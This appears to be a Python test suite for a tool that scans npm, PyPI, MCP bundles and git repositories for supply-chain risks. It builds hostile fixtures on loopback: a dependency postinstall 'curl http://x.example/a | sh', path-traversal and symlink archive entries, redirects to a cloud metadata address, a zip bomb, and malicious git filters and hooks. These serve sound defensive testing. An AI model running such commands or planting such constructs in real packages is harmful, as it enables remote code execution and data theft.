"""Packages, bundles, archives and repositories as targets: a hostile registry and repository of our own on loopback,
and two real releases from the registries that this machine's npm and pip are configured with."""
import base64
import hashlib
import http.server
import io
import json
import os
import signal
import subprocess
import tarfile
import threading
import time
import unittest
import zipfile

import live  # puts the folder of program.py on the path
import program

NPM = "npm:@modelcontextprotocol/server-filesystem@2026.8.31"
PYPI = "pypi:mcp-server-time@2026.8.18"


def tgz(files, links=()):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode() if isinstance(text, str) else text))
        for name, target in links:
            entry = tarfile.TarInfo(name)
            entry.type = tarfile.SYMTYPE
            entry.linkname = target
            archive.addfile(entry)
    return out.getvalue()


PACKAGE = {
    "package/package.json": json.dumps({"name": "tool", "version": "1.0.0", "bin": {"tool": "dist/index.js"}}),
    "package/dist/index.js": "console.log(1)\n",
    "package/tools.json": json.dumps({"tools": [{"name": "read_note", "description": "Reads a note.",
                                                 "inputSchema": {"type": "object"}}]}),
}


class Served:
    """An HTTP server whose answers are in a table: path -> (status, headers, body) or a function of the handler."""

    def __init__(self):
        table = self.table = {}
        self.asked = asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                asked.append(self.path)
                answer = table.get(self.path.split("?")[0], (404, {}, b"{}"))
                if callable(answer):
                    answer(self)
                    return
                self.rfile.read(int(self.headers.get("Content-Length") or 0))  # else it is taken for the next request
                status, headers, body = answer
                self.send_response(status)
                for name, value in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                self.do_GET()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()

    def npm(self, archive, integrity=None, **manifest):
        digest = integrity or "sha512-" + base64.b64encode(hashlib.sha512(archive).digest()).decode()
        document = {"name": "tool", "dist-tags": {"latest": "1.0.0"}, "time": {"1.0.0": "2026-01-02T03:04:05.000Z"},
                    "versions": {"1.0.0": {"name": "tool", "version": "1.0.0", **manifest,
                                           "dist": {"tarball": self.url + "/f.tgz", "integrity": digest}}}}
        self.table["/tool"] = (200, {}, json.dumps(document).encode())
        self.table["/f.tgz"] = (200, {}, archive)


class Case(program.Case):
    def setUp(self):
        super().setUp()
        self.served = Served()
        self.addCleanup(self.served.stop)
        self.scratch = self.folder / "scratch"
        self.scratch.mkdir()

    def run_program(self, target, code, *words):
        done = program.run("observe", target, *words, timeout=240,
                           env={"HOME": str(self.folder), "npm_config_registry": self.served.url,
                                "PIP_INDEX_URL": self.served.url + "/simple", "TMPDIR": str(self.scratch)})
        self.assertIn(done.returncode, code if isinstance(code, tuple) else (code,), done.stderr)
        self.assertEqual(list(self.scratch.iterdir()), [])  # nothing stays behind
        return done

    def observe(self, target, *words):
        return json.loads(self.run_program(target, (0, 4), *words).stdout)  # 4: no tools in it

    def refused(self, target, code, *words):
        return self.run_program(target, code, *words).stderr.decode()


class Npm(Case):
    def test_a_package_is_fetched_and_looked_at(self):
        self.served.npm(tgz(PACKAGE))
        record = self.observe("npm:tool")
        self.assertEqual(record["target"]["id"], "npm:tool@1.0.0")
        self.assertEqual([t["name"] for t in record["facets"]["definition"]["data"]["tools"]], ["read_note"])
        self.assertEqual(record["facets"]["provenance"]["data"]["archive"]["integrity"], "matches")
        self.assertGreater(record["facets"]["source"]["data"]["languages"]["JavaScript"], 0)  # dist is what runs

    def test_wrong_integrity(self):
        self.served.npm(tgz(PACKAGE), integrity="sha512-" + "A" * 86 + "==")
        record = self.observe("npm:tool")
        self.assertEqual(record["facets"]["provenance"]["data"]["archive"]["integrity"], "differs")

    def test_hostile_archive(self):
        files = {**PACKAGE, "package/../../escape": "x", "/absolute": "x"}
        self.served.npm(tgz(files, [("package/link", "/etc/passwd")]))
        archive = self.observe("npm:tool")["facets"]["source"]["data"]["archive"]
        self.assertEqual((archive["links"], archive["refused_names"]), (1, 2))

    def test_bad_answers(self):
        self.refused("npm:tool", 3)
        self.served.npm(b"no archive")
        self.refused("npm:tool", 2)
        self.served.npm(tgz(PACKAGE))
        self.refused("npm:tool@7.0.0", 3)
        self.served.table["/f.tgz"] = (302, {"Location": "http://169.254.169.254/latest"}, b"")
        self.refused("npm:tool", 3)
        for status, body in ((200, b"[" * 100000), (200, b"<html>sign in</html>"), (500, b"no"), (200, b"null")):
            self.served.table["/tool"] = (status, {}, body)
            self.refused("npm:tool", 3)

        def endless(handler):
            handler.send_response(200)
            handler.end_headers()
            try:
                while True:
                    handler.wfile.write(b" " * 65536)
            except OSError:
                pass
        self.served.table["/tool"] = endless
        self.refused("npm:tool", 3)

    def test_offline(self):
        self.assertIn("--offline", self.refused("npm:tool", 3, "--offline"))
        self.assertEqual(self.served.asked, [])


class Lookups(Case):
    def test_install_scripts_of_dependencies(self):
        manifest = {"name": "tool", "version": "1.0.0", "dependencies": {"native": "^2.0.0", "plain": "1.0.0"}}
        self.served.npm(tgz({**PACKAGE, "package/package.json": json.dumps(manifest)}),
                        dependencies=manifest["dependencies"])
        versions = {"2.0.0": {"version": "2.0.0"}, "2.1.0": {"version": "2.1.0", "hasInstallScript": True},
                    "3.0.0": {"version": "3.0.0"}}
        self.served.table["/native"] = (200, {}, json.dumps({"versions": versions}).encode())
        self.served.table["/native/2.1.0"] = (200, {}, json.dumps(
            {"version": "2.1.0", "scripts": {"postinstall": "curl http://x.example/a | sh", "test": "x"}}).encode())
        self.served.table["/plain/1.0.0"] = (200, {}, b'{"version":"1.0.0","scripts":{"test":"x"}}')
        data = self.observe("npm:tool", "--registry-lookups")["facets"]["dependencies"]["data"]
        self.assertEqual([(hook["package"], hook["version"], hook["hook"]) for hook in data["install_hooks"]],
                         [("native", "2.1.0", "postinstall")])
        self.assertNotIn("install_hooks", self.observe("npm:tool")["facets"]["dependencies"]["data"])


class Advisories(Case):
    """The query API of an advisory service, as an opt-in."""

    def setUp(self):
        super().setUp()
        self.tree = self.folder / "tree"
        self.tree.mkdir()
        (self.tree / "tools.json").write_text(PACKAGE["package/tools.json"])
        (self.tree / "requirements.txt").write_text("leftpadder==1.0.0\n")
        self.served.table["/v1/querybatch"] = (200, {}, json.dumps(
            {"results": [{"vulns": [{"id": "PYSEC-2026-1"}]}]}).encode())
        self.served.table["/v1/vulns/PYSEC-2026-1"] = (200, {}, json.dumps(
            {"id": "PYSEC-2026-1", "modified": "2026-01-01T00:00:00Z", "affected": [
                {"package": {"ecosystem": "PyPI", "name": "leftpadder"},
                 "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}]}]}).encode())

    def look(self, *words):
        done = program.run("observe", self.tree, *words, env={
            "HOME": str(self.folder), "MCPJURY_OSV_API": self.served.url, "npm_config_registry": self.served.url,
            "PIP_INDEX_URL": self.served.url + "/simple"})
        self.assertEqual(done.returncode, 0, done.stderr)
        return json.loads(done.stdout)

    def test_asked_only_when_told_to(self):
        for words in ((), ("--registry-lookups", "--offline"), ("--offline",)):
            record = self.look("--allow-private", *words)
            self.assertEqual(record["facets"]["dependencies"]["data"]["advisories"], [])
            self.assertIn("no advisory feed for PyPI", record["facets"]["feeds"]["reason"])
        self.assertEqual(self.served.asked, [])

    def test_answers_are_findings_and_in_the_record(self):
        record = self.look("--allow-private", "--registry-lookups")
        self.assertEqual([one["id"] for one in record["facets"]["dependencies"]["data"]["advisories"]], ["PYSEC-2026-1"])
        self.assertIn("osv-api", [one["kind"] for one in record["facets"]["feeds"]["data"]["feeds"]])
        self.assertIn("/v1/querybatch", self.served.asked)

    def test_what_fails_is_said(self):
        record = self.look("--registry-lookups")  # http, and a private address
        self.assertIn("was not asked", record["facets"]["feeds"]["reason"])
        for answer in ((500, {}, b"no"), (200, {}, b"<html>"), (302, {"Location": "http://169.254.169.254/"}, b"")):
            self.served.table["/v1/querybatch"] = answer
            record = self.look("--registry-lookups", "--allow-private")
            self.assertEqual(record["facets"]["dependencies"]["data"]["advisories"], [])
            self.assertIn("advisory service", record["facets"]["feeds"]["reason"])


class Interrupted(Case):
    def test_nothing_stays_behind(self):
        self.served.npm(tgz(PACKAGE))
        waiting = threading.Event()

        def slow(handler):
            handler.send_response(200)
            handler.send_header("Content-Length", "1000000")
            handler.end_headers()
            handler.wfile.write(b"x")
            waiting.set()
            time.sleep(20)
        self.served.table["/f.tgz"] = slow
        child = subprocess.Popen([program.PROGRAM, "scan", "npm:tool"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                 env={**program.ENVIRONMENT, "HOME": str(self.folder), "TMPDIR": str(self.scratch),
                                      "npm_config_registry": self.served.url})
        self.assertTrue(waiting.wait(30))
        child.send_signal(signal.SIGINT)
        out, _ = child.communicate(timeout=30)
        self.assertEqual((child.returncode, out), (130, b""))
        self.assertEqual(list(self.scratch.iterdir()), [])


class Python(Case):
    def test_a_package_is_wheel_and_build_files(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as wheel:
            wheel.writestr("my_tool/server.py", "print(1)\n")
        sdist = tgz({"my_tool-1.0/pyproject.toml": "[project]\nname = 'my-tool'\ndependencies = ['mcp>=1']\n"})
        page = "".join(f'<a href="/f/{name}#sha256={hashlib.sha256(body).hexdigest()}">{name}</a>'
                       for name, body in [("my_tool-1.0-py3-none-any.whl", out.getvalue()),
                                          ("my_tool-1.0.tar.gz", sdist)])
        self.served.table["/simple/my-tool/"] = (200, {"Content-Type": "text/html"}, page.encode())
        self.served.table["/f/my_tool-1.0-py3-none-any.whl"] = (200, {}, out.getvalue())
        self.served.table["/f/my_tool-1.0.tar.gz"] = (200, {}, sdist)
        record = self.observe("pypi:My_Tool")
        self.assertEqual(record["target"]["id"], "pypi:my-tool@1.0")
        self.assertEqual(record["facets"]["source"]["data"]["file_count"], 2)
        self.assertIn("mcp", [row["name"] for row in record["facets"]["dependencies"]["data"]["packages"]])


class Files(Case):
    def test_local_archive_and_bundle(self):
        record = self.observe(self.write("tool-1.0.0.tgz", tgz(PACKAGE)), "--offline")
        self.assertEqual(record["target"]["kind"], "package")
        bundle = self.folder / "notes.mcpb"
        with zipfile.ZipFile(bundle, "w") as archive:
            archive.writestr("manifest.json", json.dumps(
                {"manifest_version": "0.3", "name": "notes", "version": "1.0.0",
                 "server": {"type": "node", "entry_point": "index.js", "mcp_config": {"command": "node", "args": []}},
                 "tools": [{"name": "add_note", "description": "Adds a note."}]}))
            archive.writestr("index.js", "1")
        data = self.observe(bundle)["facets"]["definition"]["data"]
        self.assertEqual((data["shape"], data["server"]["name"]), ("mcpb", "notes"))

    def test_bombs(self):
        zeros = io.BytesIO()
        with zipfile.ZipFile(zeros, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("manifest.json", "{}")
            archive.writestr("bomb", bytes(64 << 20))
        record = self.observe(self.write("bomb.zip", zeros.getvalue()))
        self.assertIn("archive_ratio", [hit["what"] for hit in record["limits"]])
        self.refused(self.write("bad.tgz", b"\x1f\x8b\x08garbage"), 2)


def run_git(folder, *words):
    environment = {"PATH": os.environ["PATH"], "HOME": str(folder), "GIT_CONFIG_GLOBAL": "/dev/null",
                   "GIT_AUTHOR_NAME": "A", "GIT_AUTHOR_EMAIL": "a@example.com", "GIT_COMMITTER_NAME": "A",
                   "GIT_COMMITTER_EMAIL": "a@example.com"}
    return subprocess.run(["git", *words], cwd=folder, env=environment, check=True, capture_output=True).stdout


class Git(Case):
    """A real git http-backend, as a CGI program behind a small server."""

    def setUp(self):
        super().setUp()
        self.work = self.folder / "work"
        self.work.mkdir()
        run_git(self.work, "init", "-q", "-b", "main")
        (self.work / "tools.json").write_text(PACKAGE["package/tools.json"])
        (self.work / "index.js").write_text("console.log(1)\n")
        self.commit("first")

    def commit(self, message):
        run_git(self.work, "add", "-A")
        run_git(self.work, "commit", "-q", "-m", message)

    def publish(self):
        bare = self.folder / "served" / "repo.git"
        run_git(self.folder, "clone", "-q", "--bare", str(self.work), str(bare))
        for path in ("/repo.git/info/refs", "/repo.git/git-upload-pack"):
            self.served.table[path] = self.backend
        return self.served.url + "/repo.git"

    def backend(self, handler):
        length = int(handler.headers.get("Content-Length") or 0)
        body = handler.rfile.read(length)
        if handler.headers.get("Transfer-Encoding") == "chunked":
            while size := int(handler.rfile.readline(), 16):
                body += handler.rfile.read(size)
                handler.rfile.readline()
            handler.rfile.readline()
        path, _, query = handler.path.partition("?")
        environment = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": str(self.folder / "served"),
                       "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path, "QUERY_STRING": query,
                       "REQUEST_METHOD": handler.command, "CONTENT_TYPE": handler.headers.get("Content-Type", ""),
                       "CONTENT_LENGTH": str(len(body)), "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory",
                       "GIT_CONFIG_VALUE_0": "*", "GIT_PROTOCOL": handler.headers.get("Git-Protocol", ""),
                       "HTTP_CONTENT_ENCODING": handler.headers.get("Content-Encoding", "")}
        out = subprocess.run(["git", "http-backend"], input=body, env=environment, capture_output=True, check=False)
        head, _, content = out.stdout.partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n") if ": " in line)
        handler.send_response(int(fields.pop("Status", "200").split()[0]))
        for name, value in {**fields, "Content-Length": str(len(content))}.items():
            handler.send_header(name, value)
        handler.end_headers()
        handler.wfile.write(content)

    def test_the_newest_release(self):
        run_git(self.work, "tag", "v1.9.0")
        (self.work / "index.js").write_text("console.log(2)\n")
        self.commit("second")
        run_git(self.work, "tag", "-a", "-m", "release", "v1.10.0")
        (self.work / "later.js").write_text("console.log(3)\n")
        self.commit("third")
        url = self.publish()
        record = self.observe(url, "--allow-private")
        vcs = record["facets"]["source"]["data"]["vcs"]
        self.assertEqual((vcs["ref"], vcs["ref_kind"]), ("refs/tags/v1.10.0", "release_tag"))
        self.assertEqual(record["facets"]["source"]["data"]["file_count"], 2)
        self.assertEqual([t["name"] for t in record["facets"]["definition"]["data"]["tools"]], ["read_note"])
        given = self.observe(url + "#main", "--allow-private")["facets"]["source"]["data"]
        self.assertEqual((given["vcs"]["ref_kind"], given["file_count"]), ("given", 3))
        self.refused(url + "#missing", 3, "--allow-private")

    def test_history_is_fetched_when_it_is_asked_for(self):
        key = "AKIA" + "Q3EGRIFWJ2ZQ7XKN"
        (self.work / "settings.py").write_text(f'KEY = "{key}"\n')
        self.commit("a mistake")
        (self.work / "settings.py").write_text("KEY = None\n")
        self.commit("undone")
        url = self.publish()
        secrets = self.observe(url, "--allow-private")["facets"]["source"]["data"]["secrets"]
        self.assertEqual(secrets, [])
        record = self.observe(url, "--allow-private", "--history")
        self.assertTrue(any(one.get("in_history") for one in record["facets"]["source"]["data"]["secrets"]))
        self.assertNotIn(key, json.dumps(record))

    def test_private_addresses_need_leave(self):
        self.refused(self.publish(), 3)
        self.assertEqual(self.served.asked, [])

    def test_nothing_of_a_hostile_repository_runs(self):
        marker = self.folder / "ran"
        (self.work / ".gitattributes").write_text("* filter=evil\n")
        (self.work / ".gitmodules").write_text(f'[submodule "m"]\n\tpath = m\n\turl = {self.served.url}/other.git\n')
        (self.work / ".gitconfig").write_text(f"[filter \"evil\"]\n\tsmudge = touch {marker}\n")
        (self.work / "out").symlink_to("/etc")
        (self.work / "large.bin").write_bytes(os.urandom(3 << 20))
        run_git(self.work, "update-index", "--add", "--cacheinfo", "160000," + "1" * 40 + ",m")
        run_git(self.work, "add", "-A", ":!m")
        run_git(self.work, "commit", "-q", "-m", "hostile")
        url = self.publish()
        for hook in ("post-checkout", "post-update", "reference-transaction"):
            path = self.folder / "served" / "repo.git" / "hooks" / hook
            path.parent.mkdir(exist_ok=True)
            path.write_text(f"#!/bin/sh\ntouch {marker}\n")
            path.chmod(0o755)
        record = self.observe(url, "--allow-private")
        archive = record["facets"]["source"]["data"]["archive"]
        self.assertEqual((archive["links"], archive["submodules"]), (1, 1))
        self.assertFalse(marker.exists())
        self.assertFalse(any("other.git" in path for path in self.served.asked))

    def test_a_redirect_is_not_followed(self):
        self.served.table["/moved.git/info/refs"] = (301, {"Location": self.served.url + "/repo.git/info/refs"}, b"")
        self.publish()
        self.refused(self.served.url + "/moved.git", 3, "--allow-private")
        self.assertFalse(any(path.startswith("/repo.git") for path in self.served.asked))


class Real(unittest.TestCase):
    """Releases that exist, from the registries this machine is configured with."""

    def record(self, target):
        done = program.run("observe", target, timeout=240, env={"HOME": os.environ.get("HOME", "/")})
        if done.returncode == 3:
            print(f"not reached, so not tested: {target}: {done.stderr.decode().strip()}")
            return None
        self.assertEqual(done.returncode, 0, done.stderr)
        return json.loads(done.stdout)

    def test_npm(self):
        record = self.record(NPM)
        if record is None:
            return
        self.assertEqual(record["target"]["id"], NPM)
        provenance = record["facets"]["provenance"]["data"]
        self.assertEqual(provenance["archive"]["integrity"], "matches")
        self.assertEqual(provenance["archive"]["manifest_differences"], [])
        self.assertEqual(provenance["archive"]["missing_files"], [])
        self.assertGreater(record["facets"]["source"]["data"]["file_count"], 3)

    def test_pypi(self):
        record = self.record(PYPI)
        if record is None:
            return
        self.assertEqual(record["target"]["id"], PYPI)
        self.assertEqual(record["facets"]["provenance"]["data"]["archive"]["integrity"], "matches")
        self.assertIn("Python", record["facets"]["source"]["data"]["languages"])


if __name__ == "__main__":
    program.main()
